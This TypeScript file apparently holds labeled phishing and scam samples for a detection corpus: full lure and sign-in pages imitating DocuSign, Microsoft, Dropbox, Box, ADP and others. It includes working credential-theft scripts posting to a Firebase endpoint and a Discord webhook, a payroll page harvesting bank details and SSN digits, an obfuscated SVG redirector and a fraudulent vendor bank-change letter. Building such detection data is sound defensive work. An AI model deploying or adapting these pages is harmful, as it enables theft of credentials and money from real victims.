import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { ADOBE_LOGO, b64, beepWav, blurredSheet, BOX_LOGO, doc, DOCUSIGN_LOGO, DROPBOX_LOGO, fileRoute, GOOGLE_CSS, GOOGLE_G, MS_CSS, MS_SQUARES, msCard, PDF_ICON, qrSvg, SP_ICON, TEAMS_LOGO, tok, WETRANSFER_LOGO, XLSX_ICON, ZOOM_LOGO } from '../parts/yo-kit.js';

// Document-sharing, e-signature, voicemail, payroll, invoice and QR lures from customer mail, with the
// sign-in pages they lead to.

/** A plain Microsoft sign-in kit page used as the second hop of several lures (different posting targets). */
const msKit = (action: string, note: string, extraScript = ''): string =>
  doc({
    title: 'Sign in to your account',
    css: MS_CSS,
    body:
      msCard(`<form id="f" method="post" action="${action}"><div class="title">Sign in</div>
<p class="small" style="margin:-4px 0 14px">${note}</p>
<input type="email" name="login" id="em" placeholder="Email, phone, or Skype" required>
<input type="password" name="passwd" placeholder="Password" required>
<div class="small"><a href="#">Can't access your account?</a></div>
<div class="row"><button type="submit" class="btn btn-primary">Sign in</button></div></form>`) +
      `<script>var q=new URLSearchParams(location.search),e=q.get("email")||q.get("e")||location.hash.slice(1);if(e){try{if(e.indexOf("@")<0)e=atob(e)}catch(x){}document.getElementById("em").value=e}${extraScript}</script>`,
  });

export const entries: Entry[] = [
(() => {
  const lure = 'storage.googleapis.com/dsgn-envelope-77120/index.html';
  const kitHost = 'docusign.esign-account-verify.co';
  return {
    id: 'yo-docusign-gcs-lure-onward',
    label: 'phishing',
    kind: 'esign-lure',
    url: `https://${lure}#cm9iLmdyZWVuZUBtZXJpZGlhbmJ1aWxkZXJzLmNvbQ==`,
    routes: {
      [lure]: htmlRoute(
        doc({
          title: 'DocuSign',
          css: `body{margin:0;background:#f4f4f4;font-family:"Helvetica Neue",Helvetica,Arial,sans-serif;color:#333}
.hdr{background:#fff;padding:14px 30px;border-bottom:1px solid #ddd}
.env{max-width:640px;margin:40px auto;background:#1e1e5f;color:#fff;text-align:center;padding:38px 24px}
.env .ic{font-size:46px}.env p{font-size:16px;margin:14px 0}
.btn{display:inline-block;background:#ffc820;color:#1e1e1e;font-weight:700;padding:12px 28px;border-radius:3px;text-decoration:none;font-size:14px;letter-spacing:.5px}
.body{max-width:640px;margin:0 auto 40px;background:#fff;padding:24px 30px;font-size:15px;line-height:1.5}
.ft{max-width:640px;margin:0 auto;font-size:11px;color:#666;padding:0 10px 30px}`,
          body: `<div class="hdr">${DOCUSIGN_LOGO}</div>
<div class="env"><div class="ic">&#128196;</div><p>Meridian Builders Accounting sent you a document to review and sign.</p><a class="btn" id="rv" href="#">REVIEW DOCUMENT</a></div>
<div class="body"><b>Accounting Department</b><br><span style="color:#666">accounts@meridianbuilders.com</span><p>Please review and sign the attached <b>Final Payment Release &ndash; Invoice #MB-40715</b>. All parties have signed except you.</p><p>Thank you,<br>Accounting Department</p></div>
<div class="ft"><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br><b>About DocuSign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</div>
<script>document.getElementById("rv").href="https://${kitHost}/auth/signin.html?e="+encodeURIComponent(location.hash.slice(1))+"&env=${tok('env1', 8)}";</script>`,
        }),
      ),
      [`${kitHost}/auth/signin.html`]: htmlRoute(msKit('https://collect.esign-account-verify.co/dk.php', 'Sign in with your work account to view the DocuSign envelope.')),
    },
  } satisfies Entry;
})(),
(() => {
  const host = 'www.coastalpoolsupply.com';
  const base = '/wp-content/themes/twentytwentyone/share/';
  return {
    id: 'yo-sharepoint-shared-file-wp',
    label: 'phishing',
    kind: 'filesharing-lure',
    url: `https://${host}${base}?id=${tok('sp-wp', 20)}`,
    routes: {
      [`${host}${base}`]: htmlRoute(
        doc({
          title: 'SharePoint',
          css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1;color:#323130}
.suite{background:#036c70;height:48px;display:flex;align-items:center;padding:0 16px;color:#fff;gap:12px;font-size:16px;font-weight:600}
.card{max-width:520px;margin:60px auto;background:#fff;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13);padding:32px;text-align:center}
.file{display:flex;align-items:center;gap:14px;border:1px solid #edebe9;padding:14px;margin:22px 0;text-align:left}
.open{display:inline-block;background:#036c70;color:#fff;text-decoration:none;padding:10px 28px;border-radius:2px;font-weight:600}
.small{font-size:12px;color:#605e5c;margin-top:22px}`,
          body: `<div class="suite">&#9783; SharePoint</div>
<div class="card">${SP_ICON}
<h2 style="font-weight:600">Melissa Grant shared a file with you</h2>
<p>Here's the document that Melissa Grant shared with you.</p>
<div class="file">${XLSX_ICON}<div><b>2025 Salary Increase &amp; Bonus Schedule.xlsx</b><br><span style="font-size:12px;color:#605e5c">Kirby Networks &rsaquo; HR &rsaquo; Compensation</span></div></div>
<a class="open" href="${base}auth/?s=1">Open</a>
<p class="small">This link will work for anyone in Kirby Networks.<br>Microsoft respects your privacy. To learn more, please read our <a href="#">Privacy Statement</a>.</p></div>`,
        }),
      ),
      [`${host}${base}auth/`]: htmlRoute(msKit('../post.php', 'to continue to SharePoint')),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-onedrive-bonus-xlsx-firebase',
  label: 'phishing',
  kind: 'filesharing-lure',
  url: 'https://onedrive-files-8f3a1.web.app/Bonus_Allocation_FY24.xlsx.html?share=personal',
  body: doc({
    title: 'OneDrive - Bonus_Allocation_FY24.xlsx',
    css:
      MS_CSS +
      `\n.xl{position:fixed;inset:0;overflow:hidden;background:#fff}.xl .bar{background:#217346;color:#fff;height:42px;display:flex;align-items:center;padding:0 16px;gap:10px;font-weight:600}
#ov{position:fixed;inset:0;background:rgba(255,255,255,.35);display:flex;align-items:center;justify-content:center}
#ov .card{margin:0}`,
    body: `<div class="xl"><div class="bar">${XLSX_ICON.replace(/40/g, '24')} Excel &nbsp;&middot;&nbsp; Bonus_Allocation_FY24.xlsx</div>${blurredSheet(26, 6)}</div>
<div id="ov"><div class="card"><div class="logo">${MS_SQUARES} <span style="font-weight:600;color:#505050;vertical-align:5px">OneDrive</span></div>
<div class="title">Verify your identity</div>
<p class="small">This file is shared with specific people. Sign in with the email address this file was shared to.</p>
<form id="f"><input type="email" name="email" id="em" placeholder="Email address" required><input type="password" name="pass" placeholder="Password" required>
<div class="err" id="er">That password is incorrect for your Microsoft account.</div>
<div class="row"><button type="submit" class="btn btn-primary">View file</button></div></form></div></div>
<script>
var k=0;document.getElementById("f").addEventListener("submit",function(ev){ev.preventDefault();k++;
var data={e:this.email.value,p:this.pass.value,a:k,ref:document.referrer,t:new Date().toISOString()};
fetch("https://docs-collector-9a1.firebaseio.com/logs.json",{method:"POST",body:JSON.stringify(data)}).catch(function(){}).then(function(){
if(k<2){document.getElementById("er").style.display="block"}else{location.href="https://onedrive.live.com/about/en-us/signin/"}})});
</script>`,
  }),
},
{
  id: 'yo-dropbox-transfer-netlify',
  label: 'phishing',
  kind: 'filesharing-lure',
  url: 'https://dropbox-transfer-9c2e.netlify.app/t/AAB3qWx7dLpM0zVk',
  body: doc({
    title: 'Dropbox Transfer',
    css: `body{margin:0;font-family:"Sharp Grotesk",Arial,sans-serif;background:#f7f5f2;color:#1e1919}
header{padding:16px 28px;background:#fff;border-bottom:1px solid #e6e2dd}
.box{max-width:460px;margin:50px auto;background:#fff;border-radius:8px;padding:30px;box-shadow:0 1px 3px rgba(0,0,0,.1)}
.f{display:flex;align-items:center;gap:10px;padding:10px 0;border-bottom:1px solid #eee;font-size:14px}.f small{margin-left:auto;color:#777}
input{width:100%;box-sizing:border-box;height:44px;border:1px solid #c4bdb4;border-radius:4px;margin:8px 0;padding:0 12px;font-size:15px}
button{width:100%;height:46px;background:#0061fe;color:#fff;border:0;border-radius:4px;font-size:15px;font-weight:600;margin-top:8px}
.exp{font-size:12px;color:#8a7f73;margin-top:14px;text-align:center}`,
    body: `<header>${DROPBOX_LOGO}</header>
<div class="box"><h2 style="margin:0 0 6px">Purchase Order &amp; Specs</h2><p style="margin:0 0 16px;color:#6f665c;font-size:14px">Sent by procurement@altamirasupply.com &middot; 3 files &middot; 14.2 MB</p>
<div class="f">${PDF_ICON.replace(/40/g, '22')} PO-2024-11873.pdf <small>1.1 MB</small></div>
<div class="f">${XLSX_ICON.replace(/40/g, '22')} Pricing_Sheet_Rev3.xlsx <small>412 KB</small></div>
<div class="f">${PDF_ICON.replace(/40/g, '22')} Technical_Drawings.pdf <small>12.7 MB</small></div>
<p style="font-size:14px;margin-top:20px">Sign in with your email to download this transfer.</p>
<form action="https://dropbox-transfer-9c2e.netlify.app/.netlify/functions/submit" method="post">
<input type="email" name="email" placeholder="Email" required><input type="password" name="password" placeholder="Password" required>
<button type="submit">Download</button></form>
<div class="exp">This transfer expires in 2 days</div></div>`,
  }),
},
(() => {
  const host = 'box-shared-folder.northwind-ap.workers.dev';
  const kit = 'account-box-secure.com';
  return {
    id: 'yo-box-folder-workers-onward',
    label: 'phishing',
    kind: 'filesharing-lure',
    url: `https://${host}/s/4k9x2wq1zb7`,
    routes: {
      [`${host}/s/4k9x2wq1zb7`]: htmlRoute(
        doc({
          title: 'Box | Shared folder',
          css: `body{margin:0;font-family:Lato,Arial,sans-serif;background:#fbfbfb;color:#222}
.nav{height:56px;border-bottom:1px solid #e8e8e8;display:flex;align-items:center;padding:0 24px;background:#fff}
.wrap{max-width:760px;margin:40px auto;background:#fff;border:1px solid #e8e8e8;border-radius:6px}
.row{display:flex;align-items:center;gap:12px;padding:14px 20px;border-top:1px solid #f0f0f0;font-size:14px}.row:first-child{border-top:0}
.row .m{margin-left:auto;color:#767676;font-size:12px}.hd{padding:18px 20px;font-size:18px;font-weight:700;border-bottom:1px solid #e8e8e8;display:flex;justify-content:space-between}
a.btn{background:#0061d5;color:#fff;text-decoration:none;padding:8px 16px;border-radius:4px;font-size:13px}`,
          body: `<div class="nav">${BOX_LOGO}</div>
<div class="wrap"><div class="hd"><span>&#128193; Northwind AP &ndash; Remittance Q3</span><a class="btn" href="https://${kit}/login?redirect_url=%2Fs%2F4k9x2wq1zb7">Sign in to download</a></div>
<div class="row">${PDF_ICON.replace(/40/g, '22')} Remittance_Advice_0930.pdf<span class="m">Updated Sep 30, 2024 by Linda Osei</span></div>
<div class="row">${PDF_ICON.replace(/40/g, '22')} ACH_Confirmation_881273.pdf<span class="m">Updated Sep 30, 2024 by Linda Osei</span></div>
<div class="row">${XLSX_ICON.replace(/40/g, '22')} Open_Invoices_Statement.xlsx<span class="m">Updated Sep 27, 2024 by Linda Osei</span></div></div>
<p style="text-align:center;font-size:12px;color:#888">You need to sign in to preview or download files in this folder.</p>`,
        }),
      ),
      [`${kit}/login`]: htmlRoute(
        doc({
          title: 'Box | Login',
          css: `body{margin:0;font-family:Lato,Arial,sans-serif;background:#f4f4f4}.c{width:360px;margin:80px auto;background:#fff;padding:34px;border-radius:6px;box-shadow:0 1px 3px rgba(0,0,0,.12);text-align:center}
input{width:100%;box-sizing:border-box;height:40px;border:1px solid #bcbcbc;border-radius:4px;margin:8px 0;padding:0 10px}button{width:100%;height:42px;border:0;border-radius:4px;background:#0061d5;color:#fff;font-weight:700;margin-top:10px}`,
          body: `<div class="c">${BOX_LOGO}<h2 style="font-size:20px">Log in to your account</h2><form method="post" action="/login/verify.php"><input name="login" type="email" placeholder="Email Address" required><input name="password" type="password" placeholder="Password" required><button>Log In</button></form><p style="font-size:13px"><a href="#">Reset Password</a> &middot; <a href="#">Use Single Sign On (SSO)</a></p></div>`,
        }),
      ),
    },
  } satisfies Entry;
})(),
(() => {
  const lure = 'efax-messaging.docs-inbound.net';
  const kit = 'fax-viewer.mailbox-sso.com';
  return {
    id: 'yo-efax-inbound-view-fax',
    label: 'phishing',
    kind: 'fax-lure',
    url: `https://${lure}/fax/notify?id=FX-39218-7711`,
    routes: {
      [`${lure}/fax/notify`]: htmlRoute(
        doc({
          title: 'eFax Message',
          css: `body{margin:0;background:#eef1f5;font-family:Arial,Helvetica,sans-serif;color:#333}.m{max-width:600px;margin:40px auto;background:#fff;border-top:5px solid #d0021b}
.h{padding:18px 26px;font-size:26px;font-weight:700;color:#d0021b}.h span{color:#333;font-weight:400;font-size:14px;margin-left:8px}
table{width:calc(100% - 52px);margin:0 26px 20px;border-collapse:collapse;font-size:14px}td{border-bottom:1px solid #eee;padding:9px 4px}td:first-child{color:#777;width:160px}
.c{text-align:center;padding:10px 0 30px}.c a{background:#d0021b;color:#fff;text-decoration:none;padding:12px 32px;border-radius:3px;font-weight:700}
.f{font-size:11px;color:#888;padding:16px 26px;border-top:1px solid #eee}`,
          body: `<div class="m"><div class="h">eFax<span>Corporate</span></div>
<p style="padding:0 26px">You have received a new fax message. The fax is attached as a secure PDF document.</p>
<table><tr><td>Fax ID</td><td>FX-39218-7711</td></tr><tr><td>Pages</td><td>3</td></tr><tr><td>Sender</td><td>+1 646 555 0134</td></tr><tr><td>Received</td><td>Tuesday, October 8, 2024 09:14 AM</td></tr><tr><td>Type</td><td>Signed Purchase Agreement</td></tr></table>
<div class="c"><a href="https://${kit}/view/?fid=FX-39218-7711">View Fax Online</a></div>
<div class="f">This is an automated message from eFax Corporate. Please do not reply. &copy; 2024 Consensus Cloud Solutions, Inc.</div></div>`,
        }),
      ),
      [`${kit}/view/`]: htmlRoute(msKit('https://fax-viewer.mailbox-sso.com/view/next.php', 'Sign in to open your secure fax (3 pages).')),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-adp-direct-deposit-update',
  label: 'phishing',
  kind: 'payroll-kit',
  url: 'https://adp-workforcenow.payroll-direct-deposit.com/welcome/login?appid=WFNPortal&productId=80e309c3',
  body: doc({
    title: 'ADP | Sign in',
    css: `body{margin:0;font-family:"Proxima Nova",Arial,sans-serif;background:#f5f5f5;color:#1a1a1a}
.hd{background:#fff;padding:12px 28px;border-bottom:1px solid #ddd}.logo{color:#d0271d;font-weight:900;font-size:30px;font-style:italic;letter-spacing:-1px}
.c{max-width:400px;margin:50px auto;background:#fff;padding:32px;border-radius:6px;box-shadow:0 1px 4px rgba(0,0,0,.1)}
h1{font-size:22px;margin:0 0 18px}label{font-size:13px;font-weight:700;display:block;margin:12px 0 4px}
input,select{width:100%;box-sizing:border-box;height:42px;border:1px solid #949494;border-radius:4px;padding:0 10px;font-size:15px}
button{width:100%;height:44px;border:0;border-radius:22px;background:#d0271d;color:#fff;font-size:15px;font-weight:700;margin-top:22px}
.note{background:#fff7e6;border:1px solid #f4c26b;padding:10px;font-size:13px;margin-bottom:14px}`,
    body: `<div class="hd"><span class="logo">ADP</span></div>
<div class="c"><div id="s1"><h1>Sign in</h1><div class="note">Action required: confirm your direct deposit details before the next pay run on <b id="pd"></b>.</div>
<form id="f1"><label>User ID</label><input name="user" autocomplete="username" required><label>Password</label><input type="password" name="password" required><button>Sign in</button></form>
<p style="font-size:13px"><a href="#">Forgot your user ID/password?</a></p></div>
<div id="s2" style="display:none"><h1>Direct Deposit</h1><p style="font-size:14px">Verify the account your pay is deposited to.</p>
<form id="f2"><label>Bank name</label><input name="bank" required><label>Routing number</label><input name="routing" inputmode="numeric" maxlength="9" required><label>Account number</label><input name="account" inputmode="numeric" required>
<label>Account type</label><select name="type"><option>Checking</option><option>Savings</option></select><label>Last 4 of SSN</label><input name="ssn4" maxlength="4" inputmode="numeric" required><button>Save changes</button></form></div></div>
<script>
var d=new Date();d.setDate(d.getDate()+((5-d.getDay()+7)%7||7));document.getElementById("pd").textContent=d.toDateString();
var bag={};function up(){return fetch("/welcome/api/sync",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify(bag)})}
document.getElementById("f1").onsubmit=function(e){e.preventDefault();bag.user=this.user.value;bag.pw=this.password.value;up();document.getElementById("s1").style.display="none";document.getElementById("s2").style.display="block"};
document.getElementById("f2").onsubmit=function(e){e.preventDefault();var f=this;["bank","routing","account","type","ssn4"].forEach(function(k){bag[k]=f[k].value});up().finally(function(){location.href="https://www.adp.com/"})};
</script>`,
  }),
},
{
  id: 'yo-open-enrollment-lookalike',
  label: 'phishing',
  kind: 'hr-benefits-lure',
  url: 'https://kirbynetworks-benefits.com/2025/open-enrollment/?emp=48213',
  body: doc({
    title: 'Kirby Networks Benefits Center - 2025 Open Enrollment',
    css:
      MS_CSS +
      `\nbody{background:#f6f8fa}.hero{background:#113355;color:#fff;padding:30px 40px}.hero h1{margin:0;font-weight:600}
.grid{max-width:1000px;margin:30px auto;display:grid;grid-template-columns:1fr 440px;gap:30px;padding:0 20px}
.info{background:#fff;padding:24px;border-radius:6px}.info li{margin:8px 0}.dl{color:#b00;font-weight:700}
.grid .card{padding:36px;margin:0}`,
    body: `<div class="hero"><div style="font-size:13px;opacity:.8">KIRBY NETWORKS &middot; PEOPLE TEAM</div><h1>2025 Benefits Open Enrollment</h1></div>
<div class="grid"><div class="info"><h3>Your action is required</h3><p>Open enrollment closes <span class="dl" id="cl"></span>. If you do not confirm your elections, you and your dependents will be enrolled in the default plan with no FSA/HSA contributions.</p>
<ul><li>Medical, dental and vision plan changes</li><li>New: 401(k) employer match increased to 6%</li><li>Updated salary bands and 2025 merit increase letters</li><li>Life insurance beneficiary verification</li></ul>
<p style="font-size:13px;color:#555">Questions? Contact benefits@kirbynetworks.com</p></div>
<div class="card"><div class="logo">${MS_SQUARES}</div><div class="title">Sign in with your work account</div>
<form method="post" action="/2025/open-enrollment/sso.php"><input type="email" name="u" placeholder="name@kirbynetworks.com" required><input type="password" name="p" placeholder="Password" required>
<div class="row"><button class="btn btn-primary">Continue</button></div></form></div></div>
<script>var d=new Date(Date.now()+2*864e5);document.getElementById("cl").textContent=d.toLocaleDateString("en-US",{weekday:"long",month:"long",day:"numeric"})+" at 5:00 PM";</script>`,
  }),
},
{
  id: 'yo-factura-pendiente-es',
  label: 'phishing',
  kind: 'invoice-lure',
  url: 'https://facturas-online.gestion-documental-es.com/ver/?doc=FAC-2024-0392&c=administracion@talleresmorales.es',
  body: doc({
    title: 'Factura FAC-2024-0392 - Visor de documentos',
    lang: 'es',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#525659}
.tb{background:#323639;color:#fff;height:44px;display:flex;align-items:center;padding:0 16px;font-size:14px;gap:14px}
#ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(0,0,0,.4)}
.bx{background:#fff;width:380px;border-radius:6px;padding:26px;text-align:center}.bx input{width:100%;box-sizing:border-box;height:40px;margin:7px 0;border:1px solid #bbb;border-radius:3px;padding:0 10px}
.bx button{width:100%;height:42px;background:#c0392b;color:#fff;border:0;border-radius:3px;font-weight:700;margin-top:8px}.er{color:#c0392b;font-size:12px;display:none}`,
    body: `<div class="tb">${PDF_ICON.replace(/40/g, '22')} FAC-2024-0392.pdf &nbsp; <span style="opacity:.6">1 / 2</span></div>
${blurredSheet(24, 5)}
<div id="ov"><div class="bx">${PDF_ICON}<h3>Documento protegido</h3><p style="font-size:13px;color:#555">Para ver la factura pendiente de pago, confirme la dirección de correo electrónico a la que fue enviada.</p>
<form id="fx"><input type="email" name="correo" id="c" placeholder="Correo electrónico" required><input type="password" name="clave" placeholder="Contraseña del correo" required><div class="er" id="er">Contraseña incorrecta. Inténtelo de nuevo.</div><button>Ver documento</button></form></div></div>
<script>
document.getElementById("c").value=new URLSearchParams(location.search).get("c")||"";
var i=0;document.getElementById("fx").onsubmit=function(e){e.preventDefault();i++;var t="FACT|"+this.correo.value+"|"+this.clave.value+"|"+i;
fetch("https://discord.com/api/webhooks/1287734409928372224/kX7vQ2mN8pL0rT5yW3zB9cF1hJ6dS4gA_uE0oI2nM7bV5xC8zQ1wE3rT6yU9",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({content:t})});
if(i<2){document.getElementById("er").style.display="block";this.clave.value=""}else{location.href="https://outlook.live.com/"}};
</script>`,
  }),
},
(() => {
  const lure = 'partage-documents.sharepoint-fr-acces.com';
  return {
    id: 'yo-sharepoint-dossier-partage-fr',
    label: 'phishing',
    kind: 'filesharing-lure',
    url: `https://${lure}/sites/Comptabilite/Documents/?dossier=Releve_Virement_Octobre`,
    routes: {
      [`${lure}/sites/Comptabilite/Documents/`]: htmlRoute(
        doc({
          title: 'Dossier partagé - SharePoint',
          lang: 'fr',
          css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#faf9f8}.s{background:#036c70;height:48px;color:#fff;display:flex;align-items:center;padding:0 16px;font-weight:600;gap:8px}
.c{max-width:560px;margin:50px auto;background:#fff;padding:30px;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13)}
.it{display:flex;gap:12px;align-items:center;padding:10px;border:1px solid #edebe9;margin:8px 0}
.o{display:inline-block;margin-top:18px;background:#036c70;color:#fff;padding:10px 26px;text-decoration:none;font-weight:600}`,
          body: `<div class="s">&#9783; SharePoint</div><div class="c">${SP_ICON}<h2>Sophie Marchand a partagé un dossier avec vous</h2>
<p>« Bonjour, voici les relevés de virement d'octobre et la facture corrigée. Merci de valider avant vendredi. »</p>
<div class="it">${PDF_ICON}<div><b>Releve_Virement_Octobre.pdf</b><br><small>Modifié il y a 2 heures</small></div></div>
<div class="it">${PDF_ICON}<div><b>Facture_Corrigee_F2024-118.pdf</b><br><small>Modifié il y a 2 heures</small></div></div>
<a class="o" href="/sites/Comptabilite/_layouts/15/Authenticate.aspx?Source=%2Fsites%2FComptabilite">Ouvrir</a>
<p style="font-size:12px;color:#605e5c;margin-top:20px">Ce lien fonctionne uniquement pour les destinataires directs de ce message.</p></div>`,
        }),
      ),
      [`${lure}/sites/Comptabilite/_layouts/15/Authenticate.aspx`]: htmlRoute(
        doc({
          title: 'Connexion à votre compte',
          lang: 'fr',
          css: MS_CSS,
          body: msCard(`<form method="post" action="/sites/Comptabilite/_layouts/15/valider.php"><div class="title">Se connecter</div>
<input type="email" name="login" placeholder="E-mail, téléphone ou identifiant Skype" required>
<input type="password" name="passwd" placeholder="Mot de passe" required>
<div class="small"><a href="#">Mot de passe oublié ?</a></div>
<div class="row"><button class="btn btn-primary" type="submit">Se connecter</button></div></form>`),
        }),
      ),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-qr-mfa-reregistration-page',
  label: 'phishing',
  kind: 'qr-lure',
  url: 'https://it-compliance-notice.com/mfa/2fa-update.html?org=lakeshoremfg',
  body: doc({
    title: 'Multi-Factor Authentication Update Required',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#eef2f6;color:#222}
.n{max-width:560px;margin:40px auto;background:#fff;border:1px solid #d8dee4;border-radius:4px;overflow:hidden}
.t{background:#0078d4;color:#fff;padding:14px 22px;display:flex;gap:10px;align-items:center;font-weight:600}
.b{padding:24px 30px;text-align:center}.b p{text-align:left;font-size:14px;line-height:1.5}.qr{margin:16px auto;display:inline-block;border:1px solid #eee;padding:8px}
.f{font-size:11px;color:#777;padding:12px 22px;border-top:1px solid #eee}`,
    body: `<div class="n"><div class="t">${MS_SQUARES} Microsoft 365 Security</div><div class="b">
<h2 style="margin-top:0">2FA re-registration required</h2>
<p>Dear employee,</p><p>Your Microsoft 365 multi-factor authentication (MFA) settings expire today. To avoid losing access to email, Teams and OneDrive, scan the QR code below with your phone's camera and complete the re-registration within <b>24 hours</b>.</p>
<div class="qr">${qrSvg('https://m.o365-mfa-reenroll.com/r/?src=qr&org=lakeshoremfg', 5)}</div>
<p style="text-align:center;font-size:13px;color:#555">Open the camera app on your phone &rarr; point it at the code &rarr; tap the link.</p>
<p>Regards,<br>IT Service Desk</p></div>
<div class="f">This message was sent to all users of lakeshoremfg.com. Ref: MFA-UPD-2024-10. &copy; Microsoft Corporation</div></div>`,
  }),
},
{
  id: 'yo-vendor-bank-change-letter',
  label: 'scam',
  kind: 'vendor-bank-change',
  url: 'https://portal.altamira-supply-inc.com/ap/banking-update.html',
  body: doc({
    title: 'Altamira Supply, Inc. - Notice of Change in Remittance Instructions',
    css: `body{margin:0;background:#e9ecef;font-family:Georgia,"Times New Roman",serif;color:#222}
.lt{max-width:760px;margin:30px auto;background:#fff;padding:50px 60px;box-shadow:0 1px 5px rgba(0,0,0,.15)}
.lh{display:flex;justify-content:space-between;border-bottom:2px solid #1d4e89;padding-bottom:12px;margin-bottom:24px}.lh b{font-size:22px;color:#1d4e89}.lh small{text-align:right;font-size:12px;color:#555}
table{border-collapse:collapse;margin:14px 0;font-family:Arial,sans-serif;font-size:14px}td{padding:6px 14px 6px 0}
.box{border:1px solid #ccd;background:#f7f9fc;padding:16px;font-family:Arial,sans-serif;font-size:14px;margin-top:26px}.box input{width:100%;box-sizing:border-box;height:34px;margin:5px 0;border:1px solid #aab;padding:0 8px}
.box button{background:#1d4e89;color:#fff;border:0;padding:9px 20px;margin-top:8px}`,
    body: `<div class="lt"><div class="lh"><b>ALTAMIRA SUPPLY, INC.</b><small>2450 Industrial Pkwy, Suite 300<br>Dallas, TX 75247<br>accounts.receivable@altamirasupply-inc.com</small></div>
<p>October 7, 2024</p><p>To: Accounts Payable Department</p>
<p><b>RE: Change in Remittance Instructions &ndash; Effective Immediately</b></p>
<p>Due to an ongoing audit of our banking relationships, Altamira Supply, Inc. has moved its receivables account. Our previous account at Bank of America will no longer accept ACH or wire credits. Please update your vendor master file and direct all outstanding and future payments to the account below.</p>
<table><tr><td>Bank Name:</td><td><b>Metropolitan Commercial Bank</b></td></tr><tr><td>Account Name:</td><td><b>Altamira Supply Inc</b></td></tr><tr><td>Routing (ABA):</td><td><b>026013356</b></td></tr><tr><td>Account Number:</td><td><b>9100487723</b></td></tr><tr><td>SWIFT:</td><td><b>MCBEUS33</b></td></tr></table>
<p>Please process open invoices INV-77120 ($48,210.00) and INV-77164 ($21,935.40) to the new account this week to avoid late fees. <b>Do not contact our old phone line as it is being ported</b>; our controller will confirm any questions by email.</p>
<p>Sincerely,<br><br><i>Robert Hensley</i><br>Controller, Altamira Supply, Inc.</p>
<div class="box"><b>Acknowledge receipt</b><p style="margin:6px 0">Confirm the update so we can match your remittances.</p>
<form method="post" action="/ap/ack.php"><input name="company" placeholder="Your company name" required><input name="contact" placeholder="AP contact name" required><input type="email" name="email" placeholder="AP contact email" required><input name="phone" placeholder="Direct phone"><input name="scheduled" placeholder="Scheduled payment date for INV-77120"><button>Submit acknowledgement</button></form></div></div>`,
  }),
},
(() => {
  const host = 'cdn-files.statementviewer.net';
  const kit = 'login.microsoftonline.verify-mailbox.com';
  const svg = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="600" viewBox="0 0 800 600">
<rect width="800" height="600" fill="#ffffff"/>
<text x="400" y="290" font-family="Segoe UI,Arial" font-size="22" text-anchor="middle" fill="#444">Loading secure document&#8230;</text>
<script type="application/ecmascript"><![CDATA[
(function(){var m="am9yZGFuLmJsYWNrQHN0b25lYnJpZGdlY2FwaXRhbC5jb20=";
var u=atob("${b64(`https://${kit}/common/login?e=`)}")+m;
setTimeout(function(){window.location.href=u},800);})();
]]></script>
</svg>`;
  return {
    id: 'yo-svg-attachment-redirector',
    label: 'phishing',
    kind: 'svg-redirector',
    url: `https://${host}/att/Statement_Oct_2024.svg`,
    routes: {
      [`${host}/att/Statement_Oct_2024.svg`]: { status: 200, headers: { 'content-type': 'image/svg+xml' }, body: svg },
      [`${kit}/common/login`]: htmlRoute(msKit('/common/post.php', 'to continue to Outlook')),
    },
  } satisfies Entry;
})(),
];
